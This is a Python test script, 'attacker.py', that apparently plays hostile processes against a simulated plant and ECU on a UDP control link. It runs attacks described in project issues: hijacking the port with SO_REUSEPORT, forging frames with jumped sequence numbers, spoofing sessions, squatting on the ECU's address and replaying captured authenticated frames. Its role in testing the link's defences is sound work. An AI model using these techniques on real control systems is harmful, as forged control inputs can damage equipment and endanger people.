#!/usr/bin/python3
"""attacker.py - the two link attacks of issue 16, played by processes other than the plant
and the ECU, on the plant's host. Prints key=value lines; exit 0 when the script ran.

  attacker.py hijack PLANT ECU SECONDS VALUE
    The hostile pass's one-liner, widened: a socket with SO_REUSEPORT (then SO_REUSEADDR,
    then plain) tries to bind the plant's address and connect to the ECU (to read the ECU's
    frames), and one tries the ECU's address (to read the plant's and to send from the
    ECU's port). Whatever it gets, it then forges 1 kHz input frames carrying VALUE for
    SECONDS: with session and seq learned from a stolen frame when it stole one, from its own
    port otherwise. Prints bind results, stolen_frames, forged_sent and forged_from.

  attacker.py takeover PLANT ECU SECONDS VALUE STRAY
    Plays the real ECU (session A, VALUE every 1 ms) from the ECU's address, pauses 5 ms at
    SECONDS/2, and during the pause a SECOND PROCESS (forked, sharing the ECU's socket: what a
    sender spoofing the ECU's address looks like to the plant) sends 3 frames of a new
    session B carrying STRAY, 1.5 ms apart. Prints real_sent, stray_sent, pause_ms.

  attacker.py squat PLANT ECU SECONDS VALUE                 (issue 31, item 1)
  attacker.py ecu31 PLANT ECU SECONDS VALUE STRAY KEYFILE stray|replay|capture [FILE]
    The attacks on the link authenticated by default: see squat() and ecu31()."""
import hashlib
import hmac
import os
import socket
import struct
import sys
import time
import zlib

MAGIC = 0x31465348


def addr(s):
    h, p = s.rsplit(":", 1)
    return (h, int(p))


def frame(session, seq, value, ack=0):
    body = struct.pack("<IBBHIIQII", MAGIC, 1, 1, 1, session, seq, time.monotonic_ns(), ack, 0)
    body += struct.pack("<d", value)
    return body + struct.pack("<I", zlib.crc32(body))


def try_bind(local, peer):
    """Binds a socket to local like the one-liner (SO_REUSEPORT first); returns (sock, how)."""
    for name, opt in (("SO_REUSEPORT", socket.SO_REUSEPORT), ("SO_REUSEADDR", socket.SO_REUSEADDR),
                      ("plain", None)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if opt is not None:
            s.setsockopt(socket.SOL_SOCKET, opt, 1)
        try:
            s.bind(local)
            s.connect(peer)
            return s, name
        except OSError as e:
            s.close()
            err = e.strerror
    return None, "refused (" + err + ")"


def hijack(plant, ecu, seconds, value):
    ps, how_p = try_bind(plant, ecu)
    es, how_e = try_bind(ecu, plant)
    print("bind_plant_address=" + how_p.replace(" ", "_"))
    print("bind_ecu_address=" + how_e.replace(" ", "_"))
    stolen = 0
    session = seq = None
    end = time.monotonic() + 1.0
    for s in (ps, es):
        if s is not None:
            s.settimeout(0.01)
    while time.monotonic() < end and (ps is not None or es is not None):
        for s, is_ecu_frame in ((ps, True), (es, False)):
            if s is None:
                continue
            try:
                d = s.recv(2048)
            except (socket.timeout, OSError):
                continue
            stolen += 1
            if is_ecu_frame and len(d) >= 16:
                session, seq = struct.unpack_from("<II", d, 8)
    print("stolen_frames=%d" % stolen)
    if ps is not None:
        ps.close()  # else the kernel hands our own forged frames to this socket, not the plant
    # Forge: from the ECU's port when it got it, else from an ephemeral port of its own.
    if es is not None:
        tx, src = es, "ecu_port"
    else:
        tx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        tx.connect(plant)
        src = "own_port"
    # 500 ahead of the newest stolen seq: inside the plant's window, ahead of the real ECU,
    # whose own frames then look late (seq_stale) - the hostile pass's attack.
    session = session if session is not None else 0x1234567
    seq = seq + 500 if seq is not None else 1
    sent = 0
    t0 = time.monotonic()
    while time.monotonic() - t0 < seconds:
        seq += 1
        try:
            tx.send(frame(session, seq, value))
            sent += 1
        except OSError:
            pass
        time.sleep(0.001)
    print("forged_sent=%d" % sent)
    print("forged_from=" + src)


def takeover(plant, ecu, seconds, value, stray):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(ecu)
    s.connect(plant)
    r, w = os.pipe()
    child = os.fork()
    if child == 0:                      # the second process: stray frames of session B
        os.close(w)
        os.read(r, 1)
        n = 0
        for k in range(3):
            time.sleep(0.0015 if k else 0.001)
            s.send(frame(0xB0B0B0B0, 7000 + k, stray))
            n += 1
        os.write(1, b"stray_sent=%d\n" % n)
        os._exit(0)
    os.close(r)
    session, seq, sent = 0xA0A0A0A0, 0, 0
    t0 = time.monotonic()
    nxt = t0
    paused = False
    pause_ms = 0.0
    while time.monotonic() - t0 < seconds:
        if not paused and time.monotonic() - t0 >= seconds / 2:
            paused = True
            p0 = time.monotonic()
            os.write(w, b"x")               # the second process starts its stray frames
            time.sleep(0.005)               # the 5 ms ECU pause of the hostile pass
            pause_ms = (time.monotonic() - p0) * 1e3
            nxt = time.monotonic()
        seq += 1
        try:
            s.send(frame(session, seq, value))
            sent += 1
        except OSError:
            pass
        nxt += 0.001
        d = nxt - time.monotonic()
        if d > 0:
            time.sleep(d)
    os.waitpid(child, 0)
    print("real_sent=%d" % sent)
    print("pause_ms=%.2f" % pause_ms)


# ---- issue 31: the link authenticated by default ------------------------------------------
def load_key(path):
    text = open(path).read()
    return bytes.fromhex("".join(l.split("#")[0] for l in text.splitlines()))


def frame3(key, challenge, session, seq, value, ack=0):
    """A version-3 frame: values, the plant's challenge, the tag (HMAC-SHA-256-128 under key;
    key None = 16 random bytes: what a sender without the key can do at best)."""
    body = struct.pack("<IBBHIIQII", MAGIC, 3, 1, 1, session, seq, time.monotonic_ns(), ack, 0)
    body += struct.pack("<d", value) + challenge
    body += hmac.new(key, body, hashlib.sha256).digest()[:16] if key else os.urandom(16)
    return body + struct.pack("<I", zlib.crc32(body))


def plant_challenge(d):
    """The challenge of a version-3 plant frame of n values (bytes 32+8n .. 40+8n), or None."""
    if len(d) < 60 or struct.unpack_from("<I", d)[0] != MAGIC or d[4] != 3:
        return None
    n = struct.unpack_from("<H", d, 6)[0]
    return d[32 + 8 * n:40 + 8 * n] if len(d) == 60 + 8 * n else None


def squat(plant, ecu, seconds, value):
    """Another user, without the key, binds the ECU's address before hilstep-ecu starts and
    streams a new session at VALUE: version-1 frames, and version-3 frames answering the
    challenge it reads from the plant's frames (they come to it: it holds the ECU's address)
    with a tag it cannot compute."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.bind(ecu)
    except OSError as e:
        print("bind_ecu_address=refused_(%s)" % e.strerror.replace(" ", "_"))
        return
    print("bind_ecu_address=ok")
    s.connect(plant)
    s.setblocking(False)
    chal, read, sent, seq = None, 0, 0, 0
    t0 = time.monotonic()
    while time.monotonic() - t0 < seconds:
        try:
            while True:
                d = s.recv(2048)
                read += 1
                chal = plant_challenge(d) or chal
        except (BlockingIOError, ConnectionRefusedError):
            pass
        seq += 1
        try:
            s.send(frame3(None, chal, 0x5A5A0001, seq, value) if chal and seq % 2 else frame(0x5A5A0001, seq, value))
            sent += 1
        except OSError:
            pass
        time.sleep(0.001)
    print("plant_frames_read=%d" % read)
    print("challenge_seen=%d" % (chal is not None))
    print("forged_sent=%d" % sent)


def ecu31(plant, ecu, seconds, value, stray, keyfile, mode, path):
    """A keyed ECU stand-in (VALUE every 1 ms, answering the plant's challenge) that pauses
    30 ms at SECONDS/2. mode 'stray': during the pause a second process WITHOUT the key sends
    3 frames of a new session at STRAY from the ECU's address (version 3 with a guessed tag, or
    version 1 when keyfile is '-': the --no-auth link). mode 'replay': the second process
    sends the frames captured in an earlier run (file path, one hex frame per line). mode
    'capture': no pause; every frame sent is written to path (the capture of this run)."""
    key = load_key(keyfile) if keyfile != "-" else None
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(ecu)
    s.connect(plant)
    s.setblocking(False)
    r, w = os.pipe()
    child = os.fork() if mode != "capture" else -1
    if child == 0:                      # the second process: it never touches the key
        key = None
        os.close(w)
        chal = os.read(r, 8)
        n = 0
        if mode == "stray":
            for k in range(3):              # at the end of the pause: after > 20 ms of silence
                time.sleep(0.0015 if k else 0.024)
                s.send(frame3(None, chal, 0xB0B0B0B0, 7000 + k, stray) if keyfile != "-"
                       else frame(0xB0B0B0B0, 7000 + k, stray))
                n += 1
        else:
            for line in open(path):
                try:
                    s.send(bytes.fromhex(line.strip()))
                    n += 1
                except OSError:
                    pass
                time.sleep(0.0005)
        os.write(1, b"stray_sent=%d\n" % n)
        os._exit(0)
    os.close(r)
    cap = open(path, "w") if mode == "capture" else None
    session, seq, sent, chal, used = 0xA0A0A0A0 ^ os.getpid(), 0, 0, None, 0
    t0 = time.monotonic()
    nxt = t0
    paused = child <= 0
    pause_ms = 0.0
    while time.monotonic() - t0 < seconds:
        try:
            while True:
                d = s.recv(2048)
                if key and len(d) >= 60 and hmac.compare_digest(
                        hmac.new(key, d[:-20], hashlib.sha256).digest()[:16], d[-20:-4]):
                    chal = plant_challenge(d) or chal
                    used = struct.unpack_from("<I", d, 12)[0]
        except (BlockingIOError, ConnectionRefusedError):
            pass
        if not paused and time.monotonic() - t0 >= seconds / 2:
            paused = True
            p0 = time.monotonic()
            os.write(w, chal or b"\0" * 8)  # the second process starts
            time.sleep(0.030)               # the 30 ms ECU pause of issue 31
            pause_ms = (time.monotonic() - p0) * 1e3
            nxt = time.monotonic()
        if key is None or chal is not None:
            seq += 1
            f = frame3(key, chal, session, seq, value, used) if key else frame(session, seq, value)
            try:
                s.send(f)
                sent += 1
                if cap:
                    cap.write(f.hex() + "\n")
            except OSError:
                pass
        nxt += 0.001
        d = nxt - time.monotonic()
        if d > 0:
            time.sleep(d)
    if child > 0:
        os.waitpid(child, 0)
    if cap:
        cap.close()
    print("real_sent=%d" % sent)
    print("pause_ms=%.2f" % pause_ms)


def main():
    mode = sys.argv[1]
    plant, ecu = addr(sys.argv[2]), addr(sys.argv[3])
    seconds, value = float(sys.argv[4]), float(sys.argv[5])
    sys.stdout.flush()
    if mode == "hijack":
        hijack(plant, ecu, seconds, value)
    elif mode == "squat":
        squat(plant, ecu, seconds, value)
    elif mode == "ecu31":
        ecu31(plant, ecu, seconds, value, float(sys.argv[6]), sys.argv[7], sys.argv[8],
              sys.argv[9] if len(sys.argv) > 9 else "")
    else:
        takeover(plant, ecu, seconds, value, float(sys.argv[6]))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
